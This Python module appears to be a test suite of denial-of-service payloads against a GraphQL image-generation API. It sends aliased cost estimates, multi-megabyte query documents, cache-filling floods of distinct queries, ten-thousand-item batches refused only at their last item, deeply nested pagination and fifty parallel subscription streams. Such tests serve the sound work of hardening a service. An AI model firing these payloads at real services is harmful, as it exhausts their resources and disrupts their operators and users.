"""Attacks by operations that are cheap to send and dear to answer."""

import asyncio
from collections.abc import Mapping
from contextlib import suppress
from typing import Any

import httpx

FLUX = "@cf/black-forest-labs/flux-1-schnell"


async def send(
    url: str, key: str | None, query: str, variables: Mapping[str, Any] | None = None
) -> dict[str, Any]:
    """Send an operation with a key; return the answer."""
    headers = {"Authorization": f"Bearer {key}"} if key else {}
    async with httpx.AsyncClient(base_url=url, headers=headers, timeout=60) as client:
        response = await client.post("/graphql", json={"query": query, "variables": variables})
        answer: dict[str, Any] = response.json()
        return answer


async def attack_estimates(url: str, keys: Mapping[str, str]) -> None:
    """Estimate ten batches of ten thousand pictures by one operation of 2 KB."""
    estimate = (
        'costEstimate(input: {batch: {model: "%s", imagesPerPrompt: 10000, '
        'pictures: {prompts: ["a red fox"]}}}) { estimate { cost } }' % FLUX
    )
    query = "{ " + " ".join(f"a{number}: {estimate}" for number in range(10)) + " }"
    await asyncio.gather(*(send(url, keys["reader"], query) for _ in range(3)))


async def attack_long_documents(url: str, keys: Mapping[str, str]) -> None:
    """Send documents of some megabytes: a comment, a string, a name, a number, commas."""
    size = 7_000_000
    documents = (
        "#" * size + "\n{ __typename }",
        '{ image(id: "' + "x" * size + '") { id } }',
        "{ " + "x" * size + " }",
        "{ images(first: " + "1" * size + ") { totalCount } }",
        "{" + "," * size + "__typename }",
    )
    for document in documents:
        await send(url, keys["reader"], document)


async def attack_distinct_documents(url: str, keys: Mapping[str, str]) -> None:
    """Send many documents that are all different, to be kept; by their hash too."""
    headers = {"Authorization": f"Bearer {keys['reader']}"}
    async with httpx.AsyncClient(base_url=url, headers=headers, timeout=60) as client:

        async def some(start: int) -> None:
            for number in range(start, start + 40):
                long = " ".join(f"a{number}x{place}: __typename" for place in range(45))
                await client.post("/graphql", json={"query": "{ %s }" % long})

        await asyncio.gather(*(some(start) for start in range(0, 400, 40)))


async def attack_large_batches(url: str, keys: Mapping[str, str]) -> None:
    """Ask for batches of ten thousand items that are refused only at their last one."""
    items: list[dict[str, Any]] = [
        {"prompt": f"a red fox {number}", "seed": number, "tags": ["a", "b"]}
        for number in range(10_000)
    ]
    items[-1]["steps"] = 10**6
    query = """mutation M($input: GenerateBatchInput!) {
      generateBatch(input: $input) { batch { id } userErrors { message } } }"""
    variables = {"input": {"model": FLUX, "pictures": {"items": items}}}
    await asyncio.gather(*(send(url, keys["creator"], query, variables) for _ in range(2)))


async def attack_timelines(url: str, keys: Mapping[str, str]) -> None:
    """Ask for fifty timelines of a year by the hour, with sizes that look small."""
    timeline = "timeline(interval: HOUR, limit: 10000) { startsAt totalCost }"
    aliases = " ".join(f"a{number}: {timeline}" for number in range(49))
    query = '{ costAnalytics(since: "2025-11-27T00:00:00Z") { %s } }' % aliases
    pages = """query P($n: Int, $ids: [ID!]! = [%s]) { nodes(ids: $ids) { ... on Template {
      images(first: $n) { edges { node { template { images(first: $n) { edges { node { id }
      } } } } } } } } }""" % ", ".join('"tpl_x"' for _ in range(100))
    await send(url, keys["reader"], query)
    await send(url, keys["reader"], pages, {"n": 100.0})


async def attack_dear_events(url: str, keys: Mapping[str, str]) -> None:
    """Watch with many aliases, over as many streams as there may be."""
    query = "subscription { imageCreated { id %s } }" % " ".join(
        f"a{number}: model {{ parameters {{ name }} unitPrices {{ unit }} }}"
        for number in range(15)
    )
    headers = {"Authorization": f"Bearer {keys['reader']}", "Accept": "text/event-stream"}
    async with httpx.AsyncClient(base_url=url, headers=headers, timeout=30) as client:

        async def watch() -> None:
            with suppress(TimeoutError, httpx.HTTPError):
                async with (
                    asyncio.timeout(5),
                    client.stream("POST", "/graphql", json={"query": query}) as stream,
                ):
                    async for _ in stream.aiter_bytes():
                        pass

        await asyncio.gather(*(watch() for _ in range(50)))
